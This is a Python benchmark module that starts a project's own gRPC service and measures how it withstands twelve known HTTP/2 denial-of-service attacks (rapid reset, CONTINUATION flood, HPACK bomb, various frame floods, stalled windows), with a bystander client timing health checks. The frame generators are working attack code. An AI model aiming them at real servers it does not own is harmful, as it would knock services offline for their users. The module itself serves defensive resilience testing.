"""Known attacks on HTTP/2 against the whole service: what each costs it until it is cut off.

``python -m perf.grpc_attacks`` starts the service and makes each attack for ``--secs``, with a new
connection whenever one is cut off, while another client asks for the service's health ten times a
second. For each attack it prints how many frames a connection could send, the service's CPU and
memory, and the longest that the other client waited. docs/security.md has a run of it.
"""

from __future__ import annotations

import argparse
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterator
from urllib.parse import urlsplit

from hpack import Encoder

from betrace.service.receiver.grpc import frames
from betrace.service.receiver.grpc.frames import make
from betrace.service.receiver.grpc.methods import CHECK, EXPORT
from perf.lib.target import Service, service
from perf.report import output

START = frames.PREFACE + make(frames.SETTINGS, 0, 0)
MOST_FRAMES = 100_000
END = frames.END_HEADERS


def head(path: str = EXPORT, *more: tuple[bytes, bytes]) -> bytes:
    """A header block that needs no dynamic table."""
    fields = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path.encode())]
    fields += [(b":authority", b"x"), (b"content-type", b"application/grpc"), *more]
    return b"".join(
        b"\x00%c%b\x7f%b%b" % (len(name), name, _integer(len(value) - 127), value)
        if len(value) > 126
        else b"\x00%c%b%c%b" % (len(name), name, len(value), value)
        for name, value in fields
    )


def _integer(value: int) -> bytes:
    out = b""
    while value > 127:
        out += bytes([value % 128 + 128])
        value //= 128
    return out + bytes([value])


def repeat(frame: bytes) -> Callable[[], Iterator[bytes]]:
    """The same frame for ever."""

    def frames_of() -> Iterator[bytes]:
        while True:
            yield frame

    return frames_of


def rapid_reset() -> Iterator[bytes]:
    message = make(frames.DATA, frames.END_STREAM, 1, b"\x00\x00\x00\x00\x00")
    for stream in range(1, 1 << 30, 2):
        id = stream.to_bytes(4, "big")
        yield make(frames.HEADERS, END, stream, head()) + message[:5] + id + message[9:]
        yield make(frames.RST_STREAM, 0, stream, bytes(4))


def made_resets() -> Iterator[bytes]:
    for stream in range(1, 1 << 30, 2):
        yield make(frames.HEADERS, END, stream, head())
        yield frames.window_update(stream, (1 << 31) - 1)


def continuations() -> Iterator[bytes]:
    yield make(frames.HEADERS, 0, 1, head())
    yield from repeat(make(frames.CONTINUATION, 0, 1))()


def hpack_bomb() -> Iterator[bytes]:
    entry = Encoder().encode([(b"x", b"y" * 4000)], huffman=False)
    yield make(frames.HEADERS, END, 1, head() + entry)
    for stream in range(3, 1 << 30, 2):
        yield make(frames.HEADERS, END, stream, head() + b"\xbe" * 16_000)


def large_headers() -> Iterator[bytes]:
    """Headers at the limit, again and again: no attack by the rules."""
    block = head("/x/Y", *((b"x%d" % i, b"y" * 1000) for i in range(14)))
    for stream in range(1, 1 << 30, 2):
        yield make(frames.HEADERS, END | frames.END_STREAM, stream, block)


def dribble() -> Iterator[bytes]:
    yield make(frames.HEADERS, END, 1, head())
    yield make(frames.DATA, 0, 1, b"\x00\x01\x00\x00\x00")
    yield from repeat(make(frames.DATA, 0, 1, b"x"))()


def stalled() -> Iterator[bytes]:
    """A hundred calls whose answers may not be sent, and a client that reads nothing."""
    yield make(frames.SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    for stream in range(1, 201, 2):
        yield make(frames.HEADERS, END, stream, head())
        yield make(frames.DATA, frames.END_STREAM, stream, bytes(5))


ATTACKS: dict[str, Callable[[], Iterator[bytes]]] = {
    "PING flood": repeat(make(frames.PING, 0, 0, bytes(8))),
    "SETTINGS flood": repeat(make(frames.SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535))),
    "rapid reset": rapid_reset,
    "resets that the server is made to send": made_resets,
    "CONTINUATION flood": continuations,
    "HPACK bomb": hpack_bomb,
    "DATA of one byte": dribble,
    "empty DATA": repeat(make(frames.DATA, 0, 1)),
    "PRIORITY flood": repeat(make(frames.PRIORITY, 0, 1, bytes(5))),
    "WINDOW_UPDATE flood": repeat(frames.window_update(0, 1)),
    "headers of 14 KB, again and again": large_headers,
    "windows of zero, nothing read": stalled,
}


class Bystander(threading.Thread):
    """Asks for the health ten times a second on a connection of its own."""

    def __init__(self, address: tuple[str, int]) -> None:
        super().__init__()
        self._address = address
        self.over = threading.Event()
        self.waits: list[float] = []

    def run(self) -> None:
        with socket.create_connection(self._address) as opened:
            opened.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            opened.sendall(START)
            reader = frames.FrameReader()
            stream = 1
            while not self.over.wait(0.1):
                block, message = head(CHECK), bytes(5)
                start = time.monotonic()
                opened.sendall(
                    make(frames.HEADERS, END, stream, block)
                    + make(frames.DATA, frames.END_STREAM, stream, message)
                )
                answered = False
                while not answered:
                    for frame in reader.feed(opened.recv(65_536)):
                        answered |= frame.stream == stream and frame.flags & frames.END_STREAM == 1
                self.waits.append(time.monotonic() - start)
                stream += 2


def connect_and_send(address: tuple[str, int], attack: Iterator[bytes], end: float) -> int:
    """One connection's attack until the service ends it or ``end``; the frames that were sent."""
    sent = 0
    with socket.create_connection(address) as opened:
        opened.settimeout(0.5)
        try:
            opened.sendall(START)
            for frame in attack:
                opened.sendall(frame)
                sent += 1
                if sent >= MOST_FRAMES or time.monotonic() > end:
                    break
                if sent % 100 == 0:
                    opened.setblocking(False)
                    try:
                        while opened.recv(65_536):
                            pass
                        return sent
                    except BlockingIOError:
                        opened.settimeout(0.5)
            while time.monotonic() < end and opened.recv(65_536):
                pass
        except TimeoutError:
            time.sleep(max(0.0, end - time.monotonic()))
        except OSError:
            pass  # it was cut off
    return sent


def measure(target: Service, attack: Callable[[], Iterator[bytes]], seconds: float) -> list[str]:
    """A row: connections, frames of each, CPU, memory, the longest wait of the bystander."""
    parts = urlsplit(target.grpc)
    assert parts.hostname is not None
    assert parts.port is not None
    address = (parts.hostname, parts.port)
    bystander = Bystander(address)
    bystander.start()
    before, memory = target.cpu_seconds(), target.rss()
    start = time.monotonic()
    counts = []
    while time.monotonic() < start + seconds:
        counts.append(connect_and_send(address, attack(), start + seconds))
    took = time.monotonic() - start
    cpu = target.cpu_seconds() - before
    bystander.over.set()
    bystander.join()
    return [
        f"{len(counts)}",
        f"{max(counts):,}",
        f"{1000 * cpu / len(counts):,.1f}",
        f"{100 * cpu / took:.0f} %",
        f"{(target.rss() - memory) / 1e6:.1f}",
        f"{1000 * max(bystander.waits):.0f}",
    ]


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--secs", type=float, default=5, help="for each attack")
    options = parser.parse_args()
    rows = []
    with service(rules=10) as target:
        for name, attack in ATTACKS.items():
            rows.append([name, *measure(target, attack, options.secs)])
            print(f"  {rows[-1]}", file=sys.stderr)
        target.stop()
    titles = ["attack", "connections", "frames of one", "CPU of one, ms", "of a core"]
    print(output.table([*titles, "MB more", "others waited, ms"], rows))


if __name__ == "__main__":
    main()
